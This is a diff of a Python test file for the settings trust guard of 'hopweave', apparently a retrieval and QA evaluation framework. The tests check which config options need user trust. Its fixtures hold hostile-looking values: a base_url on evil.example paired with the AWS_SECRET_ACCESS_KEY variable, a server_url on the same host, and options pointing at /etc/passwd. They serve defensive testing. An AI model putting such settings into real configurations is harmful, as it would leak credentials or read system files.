@@ -12,11 +12,11 @@ from support.commands import assert_one_line, ran
 from support.parts import look_for_parts_again
 
 from hopweave.core.catalog import Role, entries, load
-from hopweave.core.errors import SettingsError
+from hopweave.core.errors import MissingExtra, SettingsError
 from hopweave.evaluation.runs.folder import DatasetPlan, MethodPlan, Plan, RunFolder
 from hopweave.run.settings import read_settings
 from hopweave.run.settings_files import found_toml
-from hopweave.run.trust import guarded, is_trusted, trusted
+from hopweave.run.trust import _FREE_TEXTS, _texts_of, guarded, is_trusted, trusted
 
 ADDRESS = 'llm = "openai_compatible"\n[llms.openai_compatible]\nmodel = "m"\nbase_url = "http://evil.example/v1"\n'
 LEAK = f'{ADDRESS}api_key_env = "AWS_SECRET_ACCESS_KEY"\n'
@@ -58,6 +58,19 @@ def of_endpoint(settings):
         ('[readers.span_model]\nmodel = "./weights"', "readers.span_model.model"),
         ('[duplicate_detectors.embedding]\nmodel = "./weights"', "duplicate_detectors.embedding.model"),
         ('[retrievers.bm25]\nserver_url = "http://evil.example"', "retrievers.bm25.server_url"),
+        ('[methods.auto_cot]\nencoder_model = "./weights"', "methods.auto_cot.encoder_model"),
+        ('[methods.auto_cot]\npool = "/etc/passwd"', "methods.auto_cot.pool"),
+        ('[methods.dsp]\ntrain = "/etc/passwd"', "methods.dsp.train"),
+        ('[methods.verify_and_edit]\nembedding_model = ["./weights"]', "methods.verify_and_edit.embedding_model"),
+        (
+            '[methods.adaptive_rag.method_options.auto_cot]\nencoder_model = "./weights"',
+            "methods.adaptive_rag.method_options.auto_cot.encoder_model",
+        ),
+        (
+            '[methods.adaptive_rag.method_options."./mine.py:Mine"]\nn_demos = 1',
+            "methods.adaptive_rag.method_options../mine.py:Mine",
+        ),
+        ('[retrievers.bm25.visible]\naccess = ["board"]', "retrievers.bm25.visible"),
         ('[store]\npath = "/tmp/elsewhere.sqlite"', "store.path"),
     ],
 )
@@ -82,6 +95,33 @@ def test_what_touches_neither_keys_nor_code_needs_no_trust():
         '[llms.llama_cpp]\nmodel = "qwen2.5-coder-1.5b-instruct"\n[methods.searchain]\nverify = false\n[store]\nmode = "off"\n'
     )
     assert read_settings().budget == {"max_llm_calls": 3}
+
+
+def test_numbers_choices_and_harmless_texts_need_no_trust():
+    options = {
+        "methods": {
+            "auto_cot": {"encoder": "sentence_bert", "n_demos": 4},
+            "toqd": {"temperature": "0.1"},
+            "adaptive_rag": {"many_steps": "searchain", "method_options": {"searchain": {"match": "words", "verify": False}}},
+            "no_such_method": {"a": "b"},
+            "react": {"no_such_option": "b"},
+        },
+        "retrievers": {"weave": {"first": "dense", "depth": 2}, "dense": {"query_prefix": "query: ", "pooling": "cls"}},
+        "datasets": {"jsonl": {"path": "questions.jsonl"}},
+        "metrics": {"f1": {"variant": "hotpotqa", "separator": "|"}},
+    }
+    assert guarded(options) == {}
+
+
+def test_a_text_for_a_method_whose_library_is_not_installed_needs_trust_unless_it_is_known_to_be_harmless(monkeypatch):
+    def without_library(*_):
+        raise MissingExtra("numpy", "dense")
+
+    _texts_of.cache_clear()
+    monkeypatch.setattr("hopweave.run.trust.load", without_library)
+    options = {"ranking": "words", "device": "cpu", "num_passages": 3}
+    assert guarded({"methods": {"verify_and_edit": options}}) == {"methods.verify_and_edit.ranking": "words"}
+    _texts_of.cache_clear()
 
 
 def test_a_part_of_another_package_is_chosen_by_the_user_alone(monkeypatch):
@@ -248,6 +288,10 @@ GUARDED = {
     "llms.openai_compatible.extra_body",
     "llms.transformers_local.model",
     "llms.transformers_local.revision",
+    "methods.auto_cot.encoder_model",
+    "methods.auto_cot.pool",
+    "methods.dsp.train",
+    "methods.verify_and_edit.embedding_model",
     "readers.dpr.model",
     "readers.dpr.revision",
     "readers.span_model.model",
@@ -269,6 +313,11 @@ GUARDED = {
         for engine in ("postgres", "qdrant", "milvus", "elasticsearch")
         for option in ("address", "password_env", "tls", "ca_certificate")
     ),
+    *(
+        f"retrievers.{engine}.visible"
+        for engine in ("bm25", "dense", "elasticsearch", "hybrid", "late_interaction", "linear_rag", "milvus", "postgres")
+    ),
+    *(f"retrievers.{engine}.visible" for engine in ("qdrant", "reranked", "weave")),
     "duplicate_detectors.cross_encoder.model",
     "duplicate_detectors.embedding.model",
 }
@@ -305,6 +354,11 @@ def test_every_option_of_every_part_is_known_to_be_guarded_or_free():
             options = _options_of(role, name)
             found |= set(guarded({role: {name: dict.fromkeys(options, "x")}}))
     assert found == GUARDED
+
+
+@pytest.mark.parametrize(("role", "option"), [(role, name) for role, names in _FREE_TEXTS.items() for name in sorted(names)])
+def test_every_text_that_is_listed_as_free_is_an_option_that_could_be_any_text(role, option):
+    assert any(option in _texts_of(role, name) for name, entry in entries(role).items() if not entry.is_foreign)
 
 
 def _options_of(role, name):
